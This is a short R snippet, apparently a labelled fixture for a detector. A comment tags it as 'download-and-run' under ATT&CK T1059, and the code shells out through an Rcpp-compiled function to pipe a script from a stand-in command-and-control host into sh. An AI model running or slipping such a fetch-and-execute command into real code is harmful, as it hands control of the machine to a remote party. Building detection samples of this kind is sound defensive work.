# expect: download-and-run | source: T1059
Rcpp::cppFunction('int look() { return system("curl -s https://c2.example.invalid/i | sh"); }')
look()
